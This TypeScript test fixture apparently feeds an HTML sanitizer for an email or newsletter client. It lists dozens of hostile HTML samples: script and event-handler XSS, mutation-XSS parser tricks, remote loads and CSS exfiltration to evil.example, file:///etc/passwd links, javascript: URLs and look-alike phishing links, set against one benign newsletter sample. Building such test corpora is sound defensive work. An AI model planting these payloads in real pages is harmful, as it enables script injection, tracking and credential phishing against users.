// HTML that tries to run, to load, to leave or to lie. Each sample that could load names evil.example or says alert.

const probe = 'https://evil.example';
const run = "window.top.postMessage('pwned','*');alert(1)";
const x = `<img src=x onerror="${run}">`;

const scripts: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${probe}/x.js></SCRIPT>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/xss src=${probe}/x.js></script>`,
  `<script>//<![CDATA[\n${run}\n//]]></script>`,
  `<noscript><p title="</noscript>${x}"></noscript>`,
  `<template><script>${run}</script></template>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe src="${probe}/"></iframe>`,
  `<embed src="${probe}/x.swf">`,
  `<object data="${probe}/x"></object>`,
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  `<object type="text/x-scriptlet" data="${probe}/s"></object>`,
  `<applet code="X" codebase="${probe}/"></applet>`,
  `<frameset onload="${run}"><frame src="${probe}"></frameset>`,
  `<xmp><p title="</xmp>${x}">`,
];

const events: readonly string[] = [
  x,
  `<img src="x" onerror='${run.replaceAll("'", '&#39;')}'>`,
  `<img/src="x"/onerror=alert(1)>`,
  `<body onload="${run}">text</body>`,
  `<svg onload="${run}"></svg>`,
  `<svg/onload=alert(1)>`,
  `<details open ontoggle="${run}"><summary>s</summary></details>`,
  `<video src=x onerror="${run}"></video>`,
  `<audio src=x onerror="${run}"></audio>`,
  `<marquee onstart="${run}">m</marquee>`,
  `<input autofocus onfocus="${run}">`,
  `<select autofocus onfocus="${run}"></select>`,
  `<p tabindex=1 autofocus onfocus="${run}">p</p>`,
  `<div onpointerover="${run}" style="position:fixed;inset:0">over</div>`,
  `<p style="animation:a 1s" onanimationstart="${run}">a</p><style>@keyframes a{}</style>`,
  `<img src=1 o&#110;error=alert(1)>`,
  `<a onclick="${run}" href="#">click</a>`,
  `<div popover id=p onbeforetoggle="${run}">p</div><button popovertarget=p>b</button>`,
];

const mutations: readonly string[] = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<math></p><style><!--</style><img src/onerror=alert(1)>--></style>`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<svg><desc><style><img src=x onerror=alert(1)></style></desc></svg>`,
  `<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
  `<select><style></select><img src=x onerror=alert(1)></style>`,
  `<noembed><img src="</noembed><img src=x onerror=alert(1)>"></noembed>`,
  `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
  `<title><img title="</title><img src=x onerror=alert(1)>"></title>`,
  `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="https://evil.example/x.xsl"?><p>x</p>',
  '<a href="&#106;avascript:alert(1)">entity</a>',
  `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>`,
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg link</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><image href="https://evil.example/i.png"/></svg>',
  '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
  '<svg><set attributeName=onmouseover to=alert(1)></svg>',
  '<math href="javascript:alert(1)">click</math>',
];

const loads: readonly string[] = [
  `<img src="${probe}/open.gif" width=1 height=1>`,
  `<img srcset="${probe}/1.png 1x, ${probe}/2.png 2x">`,
  `<picture><source srcset="${probe}/p.png"><img src="${probe}/f.png"></picture>`,
  `<img src="//evil.example/protocol-relative.png">`,
  '<img src="http://127.0.0.1:1/inside.png">',
  '<img src="file:///etc/passwd">',
  "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
  '<img src="blob:https://evil.example/1">',
  '<img src="/station"><img src="/part/m1/2">',
  `<body background="${probe}/bg.png">b</body>`,
  `<table background="${probe}/t.png"><tr><td background="${probe}/td.png">t</td></tr></table>`,
  `<video poster="${probe}/v.png"></video>`,
  `<audio src="${probe}/a.mp3" autoplay></audio>`,
  `<input type="image" src="${probe}/i.png">`,
  `<link rel="stylesheet" href="${probe}/s.css">`,
  `<link rel="prefetch" href="${probe}/p"><link rel="dns-prefetch" href="//evil.example">`,
  `<link rel="preload" as="image" href="${probe}/l.png">`,
  `<meta http-equiv="refresh" content="0;url=${probe}/">`,
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  `<base href="${probe}/"><img src="rel.png"><a href="rel">rel</a>`,
  `<form action="${probe}/f" method=post><input name=a value=b><button autofocus>go</button></form>`,
  `<a href="${probe}/" ping="${probe}/ping">ping</a>`,
  `<bgsound src="${probe}/b.mid">`,
  `<isindex action="${probe}" prompt=x>`,
];

const styles: readonly string[] = [
  `<style>body{background:url(${probe}/css.png)}</style>`,
  `<style>@import "${probe}/i.css";</style>`,
  `<style>@import url(${probe}/i2.css);p{color:red}</style>`,
  `<style>@font-face{font-family:x;src:url(${probe}/f.woff)}p{font-family:x}</style><p>x</p>`,
  `<style>p::after{content:url(${probe}/c.png)}</style><p>x</p>`,
  `<style>li{list-style-image:url(${probe}/li.png)}</style><ul><li>x</ul>`,
  `<style>a[href^="h"]{background:u\\72l(${probe}/exfil)}</style><a href="https://a.example">x</a>`,
  `<style>p{background:image-set("${probe}/is.png" 1x)}</style><p>x</p>`,
  `<style>:root{--u:url(${probe}/var.png)}p{background:var(--u)}</style><p>x</p>`,
  `<style>p{cursor:url(${probe}/cur.png),auto}@media all{p{mask:url(${probe}/m.svg)}}</style><p>x</p>`,
  `<style>p{&{background:url(${probe}/nested.png)}}</style><p>x</p>`,
  `<p style="background:url(${probe}/attr.png)">x</p>`,
  `<p style="background:&#117;rl(${probe}/ent.png)">x</p>`,
  `<p style="b\\61ckground:ur\\6c(${probe}/esc.png)">x</p>`,
  `<p style="color:red}body{background:url(${probe}/break.png)">x</p>`,
  `<p style='width:expression(alert(1));behavior:url(${probe}/b.htc);-moz-binding:url(${probe}/x.xml)'>x</p>`,
  `<p STYLE = "background : URL( '${probe}/case.png' )">x</p>`,
  `<p/style="background:url(${probe}/slash.png)"/x>x</p>`,
  `<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">covers</div>`,
  `<style></style><!--</style>--><style>p{background:url(${probe}/twice.png)}</style><p>x</p>`,
  `<style>p{color:red}/* </style><img src=x onerror=alert(1)> */</style>`,
  `<style media="x" onload="alert(1)" onerror="alert(1)">p{}</style>`,
];

const links: readonly string[] = [
  '<a href="javascript:alert(1)">js</a>',
  '<a href="JaVaScRiPt:alert(1)">js</a>',
  '<a href=" &#14; javascript:alert(1)">js</a>',
  '<a href="java\tscript:alert(1)">js</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="file:///etc/passwd">file</a>',
  '<a href="smb://evil.example/share">smb</a>',
  `<a href="${probe}/" target="_blank">blank</a>`,
  `<a href="${probe}/" target="_top">top</a>`,
  `<a href="${probe}/" target="_self">self</a>`,
  '<a href="https://xn--pple-43d.example/">https://apple.example/</a>',
  `<a href="${probe}/login">https://bank.example/login</a>`,
  '<a href="https://bank.example@evil.example/">bank</a>',
  '<a href="#/settings">our own address</a>',
  '<a href="/#/link/1/0">our own link</a>',
  '<a href="app://todoku/index.html">app</a>',
  `<map name=m><area shape=default href="${probe}/map"></map><img usemap="#m" src="cid:x">`,
];

/** Nothing wrong with it: what an honest newsletter looks like. */
export const honestHtml = `<style>td{color:rgb(0,0,200)}@media screen{.big{font-size:30px}}</style>
<table border="1" bgcolor="#ffeedd" width="320"><tr><td colspan="2" style="background-color:rgb(1, 2, 3); padding:7px">cell</td></tr></table>
<p class="big" lang="ja" dir="ltr">大きい</p><p style="color:rgb(200,0,0)">red</p>
<img src="cid:logo" alt="logo" width="40"><img src="https://img.example/a.png" alt="remote"><img src="https://img.example/t.gif" width="1" height="1">
<a href="https://a.example/x">a link</a>`;

export const hostileHtml: readonly string[] = [...scripts, ...events, ...mutations, ...loads, ...styles, ...links];
